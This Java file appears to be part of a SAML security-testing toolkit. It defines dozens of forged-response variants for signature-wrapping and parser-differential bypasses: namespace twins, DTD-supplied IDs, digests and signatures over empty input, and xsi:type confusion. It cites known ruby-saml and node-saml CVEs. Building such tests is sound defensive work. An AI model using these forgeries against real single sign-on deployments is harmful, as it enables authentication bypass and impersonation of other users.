package org.peakonjit.saml.attack;

import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.security.Signature;
import java.util.Base64;
import java.util.List;
import java.util.function.BiConsumer;
import java.util.function.UnaryOperator;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * Documents that two readers understand differently: names that only look alike, attributes of other namespaces, and
 * canonical forms that fail or are empty ("The Fragile Lock", Black Hat Europe 2025; the ruby-saml bypasses of 2024 and
 * 2025, CVE-2024-45409, CVE-2025-25291, CVE-2025-25292; node-saml's CVE-2025-29774 and CVE-2025-29775).
 */
public final class DifferentialAttacks {

    private static final String XSI = "http://www.w3.org/2001/XMLSchema-instance";
    private static final String XMLNS = "http://www.w3.org/2000/xmlns/";

    public static final List<Attack> ALL = List.of(
            // names that only look alike
            Attack.of("forged assertion in a namespace with a blank at its end", twinIn(Dom.ASSERTION + " ")),
            Attack.of(
                    "forged assertion in a namespace of other case",
                    twinIn(Dom.ASSERTION.toUpperCase(java.util.Locale.ROOT))),
            Attack.of("forged assertion in no namespace", twinIn(null)),
            Attack.of("forged assertion in the protocol's namespace", twinIn(Dom.PROTOCOL)),
            Attack.of("signed assertion in the protocol's namespace", renamed(Dom.PROTOCOL)),
            Attack.of("Signature in another namespace", honest -> honest.raw(Dom.DSIG + "\"", Dom.DSIG + "x\"")),
            Attack.of(
                    "Signature in the namespace of XML Signature 1.1",
                    honest -> honest.raw(Dom.DSIG + "\"", "http://www.w3.org/2009/xmldsig11#\"")),
            Attack.of(
                    "prefix of SAML bound to something else",
                    honest -> honest.raw("xmlns:saml=\"" + Dom.ASSERTION + "\"", "xmlns:saml=\"urn:x\"")),
            Attack.of(
                    "local names of other case",
                    honest -> honest.raw(xml -> xml.replace("saml:Assertion", "saml:assertion"))),
            Attack.of("empty default namespace around the signed assertion", ofAssertion((evil, good) -> {
                Element around = good.getOwnerDocument().createElementNS(null, "Assertion");
                good.getParentNode().replaceChild(around, good);
                around.appendChild(good);
            })),
            // IDs that one reader sees and another does not
            Attack.of(
                    "forged assertion with the signed one's ID in SAML's namespace",
                    twinWith(Dom.ASSERTION, "saml:ID")),
            Attack.of(
                    "forged assertion with the signed one's ID in XML Security's utility namespace",
                    twinWith(
                            "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd",
                            "wsu:Id")),
            Attack.of("forged assertion with the signed one's ID as AssertionID", twinWith(null, "AssertionID")),
            Attack.of("forged assertion with the signed one's ID as iD", twinWith(null, "iD")),
            Attack.of(
                    "signed assertion's ID by an entity of a DTD",
                    honest -> honest.raw("ID=\"" + honest.assertionId(), "ID=\"&i;")
                            .raw(xml -> "<!DOCTYPE x [<!ENTITY i \"" + honest.assertionId() + "\">]>" + xml)),
            Attack.of(
                    "forged assertion's ID by a DTD's default",
                    honest -> honest.afterwards(ofBoth((evil, good) -> {
                                evil.removeAttribute("ID");
                                good.getParentNode().insertBefore(evil, good);
                            }))
                            .raw(xml -> "<!DOCTYPE x [<!ATTLIST saml:Assertion ID ID \"" + honest.assertionId()
                                    + "\">]>" + xml)),
            Attack.of(
                    "ID with a blank at its end",
                    honest ->
                            honest.raw("ID=\"" + honest.assertionId() + "\"", "ID=\"" + honest.assertionId() + " \"")),
            Attack.of("Reference percent-encoded", honest -> honest.raw("URI=\"#_a", "URI=\"#%5Fa")),
            Attack.of("Reference with a blank", honest -> honest.raw("URI=\"#_a", "URI=\" #_a")),
            Attack.of(
                    "Reference of other case",
                    honest -> honest.raw(xml -> xml.replace(
                            "URI=\"#" + honest.assertionId(),
                            "URI=\"#" + honest.assertionId().toUpperCase(java.util.Locale.ROOT)))),
            Attack.of(
                    "Reference with a second URI attribute",
                    honest -> honest.raw("URI=\"#_a", "x:URI=\"#_evil\" xmlns:x=\"urn:x\" URI=\"#_b")),
            // canonical forms that fail or are empty
            Attack.of(
                    "relative namespace, digest of nothing",
                    nothingDigested(
                            document -> Dom.only(document, "Assertion").setAttributeNS(XMLNS, "xmlns:x", "relative"))),
            Attack.of(
                    "relative namespace on the NameID, digest of nothing",
                    nothingDigested(document -> Dom.only(document, "NameID").setAttributeNS(XMLNS, "xmlns:x", "1"))),
            Attack.of("changed NameID, digest of nothing", nothingDigested(document -> {})),
            Attack.of(
                    "relative namespace on SignedInfo, signature of nothing",
                    nothingSigned(
                            document -> Dom.only(document, "SignedInfo").setAttributeNS(XMLNS, "xmlns:x", "relative"))),
            Attack.of("signature of nothing", nothingSigned(document -> {})),
            Attack.of(
                    "prefix list that names nothing",
                    honest -> honest.afterwards(document -> {
                        Element list = Dom.append(
                                Dom.only(document, "Transform"), SigningForm.EXCLUSIVE, "ec:InclusiveNamespaces");
                        list.setAttribute("PrefixList", "#default x y z");
                    })),
            Attack.of(
                    "prefix list twice",
                    honest -> honest.afterwards(document -> {
                        Element method = Dom.only(document, "CanonicalizationMethod");
                        Dom.append(method, SigningForm.EXCLUSIVE, "ec:InclusiveNamespaces")
                                .setAttribute("PrefixList", "x");
                        Dom.append(method, SigningForm.EXCLUSIVE, "ec:InclusiveNamespaces")
                                .setAttribute("PrefixList", "y");
                    })),
            Attack.of(
                    "second SignedInfo after the value",
                    honest -> honest.afterwards(document -> {
                        Element info = Dom.copy(Dom.only(document, "SignedInfo"));
                        Dom.below(info, "DigestValue").setTextContent(digestOfNothing());
                        Dom.only(document, "Signature").appendChild(info);
                    })),
            Attack.of(
                    "SignedInfo in another namespace in front",
                    honest -> honest.afterwards(document -> {
                        Element info = Dom.only(document, "SignedInfo");
                        Dom.insert(info, "urn:x", "x:SignedInfo").appendChild(Dom.copy(info));
                    })),
            Attack.of(
                    "comments around the digest", honest -> honest.raw("<ds:DigestValue>", "<ds:DigestValue><!--x-->")),
            Attack.of(
                    "digest in two text nodes",
                    honest -> honest.afterwards(document -> {
                        Element digest = Dom.only(document, "DigestValue");
                        digest.insertBefore(document.createElementNS("urn:x", "x:y"), digest.getFirstChild());
                    })),
            Attack.of(
                    "RSA-PSS announced, RSA signed",
                    honest -> honest.afterwards(document -> Dom.only(document, "SignatureMethod")
                            .setAttribute("Algorithm", "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"))),
            Attack.of(
                    "algorithm with a blank",
                    honest -> honest.afterwards(document -> Dom.only(document, "SignatureMethod")
                            .setAttribute("Algorithm", SigningForm.RSA_SHA256 + " "))),
            // xsi, xml:base and friends
            Attack.of(
                    "xml:base on the assertion",
                    honest -> honest.afterwards(document -> Dom.only(document, "Assertion")
                            .setAttributeNS(
                                    "http://www.w3.org/XML/1998/namespace", "xml:base", "http://127.0.0.1:9/"))),
            Attack.of(
                    "schemaLocation on the Response, signed assertion changed",
                    honest -> honest.afterwards(document -> {
                        document.getDocumentElement()
                                .setAttributeNS(
                                        "http://www.w3.org/2001/XMLSchema-instance",
                                        "xsi:schemaLocation",
                                        "urn:oasis:names:tc:SAML:2.0:protocol http://127.0.0.1:9/x.xsd");
                        Dom.only(document, "NameID").setTextContent("mallory@corp.example");
                    })),
            Attack.of(
                    "xsi:nil on the NameID",
                    honest -> honest.editAll(
                            "<saml:NameID [^>]*>[^<]*</saml:NameID>", "<saml:NameID xsi:nil=\"true\"/>")),
            Attack.of(
                    "xsi:type that makes the NameID a BaseID",
                    honest -> honest.editAll(
                            "<saml:NameID [^>]*>[^<]*</saml:NameID>",
                            "<saml:BaseID xsi:type=\"saml:NameIDType\">alice@corp.example</saml:BaseID>")),
            Attack.of(
                    "xsi:type that makes the Response's foreign issuer no Issuer",
                    honest -> honest.editAll(
                            "<saml:Issuer>[^<]*</saml:Issuer>(?=<samlp:Status)",
                            "<saml:Issuer " + typed("saml:NameIDType") + ">https://other.example/idp</saml:Issuer>")),
            Attack.of("xsi:type that makes the Extensions a forged assertion", ofAssertion((evil, good) -> {
                Element extensions = Dom.insert(good, Dom.PROTOCOL, "samlp:Extensions");
                extensions.setAttributeNS(XSI, "xsi:type", "saml:AssertionType");
                extensions.setAttribute("ID", "_evil");
                while (evil.getFirstChild() != null) {
                    extensions.appendChild(evil.getFirstChild());
                }
                good.getParentNode().removeChild(good);
            })),
            Attack.of(
                    "xsi:type that makes an EncryptedAssertion a plain one",
                    honest -> honest.assertionSigned(null).afterwards(document -> {
                        Element assertion = Dom.only(document, "Assertion");
                        document.renameNode(assertion, Dom.ASSERTION, "saml:EncryptedAssertion");
                        assertion.setAttributeNS(XSI, "xsi:type", "saml:AssertionType");
                    })),
            Attack.of(
                    "NameID encrypted beside a plain one",
                    honest -> honest.edit(
                            "<saml:SubjectConfirmation ",
                            "<saml:EncryptedID><x xmlns=\"urn:x\"/></saml:EncryptedID><saml:SubjectConfirmation ")),
            Attack.of(
                    "NameID that is encrypted",
                    honest -> honest.editAll(
                            "<saml:NameID [^>]*>[^<]*</saml:NameID>",
                            "<saml:EncryptedID><x xmlns=\"urn:x\"/></saml:EncryptedID>")));

    private DifferentialAttacks() {}

    private static String typed(String type) {
        return "xmlns:xsi=\"" + XSI + "\" xsi:type=\"" + type + "\"";
    }

    private static UnaryOperator<ForgedResponse> ofAssertion(BiConsumer<Element, Element> evilAndGood) {
        return honest -> honest.afterwards(ofBoth(evilAndGood));
    }

    private static java.util.function.Consumer<Document> ofBoth(BiConsumer<Element, Element> evilAndGood) {
        return document -> {
            Element good = Dom.only(document, "Assertion");
            evilAndGood.accept(Dom.evilTwin(good), good);
        };
    }

    private static UnaryOperator<ForgedResponse> twinIn(@org.jspecify.annotations.Nullable String namespace) {
        return ofAssertion((evil, good) -> {
            good.getParentNode().insertBefore(evil, good);
            good.getOwnerDocument().renameNode(evil, namespace, namespace == null ? "Assertion" : "x:Assertion");
        });
    }

    private static UnaryOperator<ForgedResponse> renamed(String namespace) {
        return honest -> honest.afterwards(
                document -> document.renameNode(Dom.only(document, "Assertion"), namespace, "samlp:Assertion"));
    }

    private static UnaryOperator<ForgedResponse> twinWith(
            @org.jspecify.annotations.Nullable String namespace, String attribute) {
        return ofAssertion((evil, good) -> {
            evil.setAttributeNS(namespace, attribute, good.getAttribute("ID"));
            good.getParentNode().insertBefore(evil, good);
        });
    }

    /** About somebody else, its digest that of no bytes at all, and the IdP's signature over just that. */
    private static UnaryOperator<ForgedResponse> nothingDigested(java.util.function.Consumer<Document> change) {
        return honest -> honest.afterwards(document -> {
            Dom.only(document, "NameID").setTextContent("mallory@corp.example");
            change.accept(document);
            Dom.only(document, "DigestValue").setTextContent(digestOfNothing());
        });
    }

    /** The same with the IdP's signature over no bytes at all. */
    private static UnaryOperator<ForgedResponse> nothingSigned(java.util.function.Consumer<Document> change) {
        return honest -> honest.afterwards(document -> {
            Dom.only(document, "NameID").setTextContent("mallory@corp.example");
            change.accept(document);
            Dom.only(document, "DigestValue").setTextContent(digestOfNothing());
            Dom.only(document, "SignatureValue").setTextContent(signatureOfNothing((PrivateKey)
                    honest.parties().honest().key()));
        });
    }

    private static String digestOfNothing() {
        try {
            return Base64.getEncoder()
                    .encodeToString(MessageDigest.getInstance("SHA-256").digest());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String signatureOfNothing(PrivateKey key) {
        try {
            Signature signature = Signature.getInstance("SHA256withRSA");
            signature.initSign(key);
            signature.update("".getBytes(StandardCharsets.UTF_8));
            return Base64.getEncoder().encodeToString(signature.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }
}
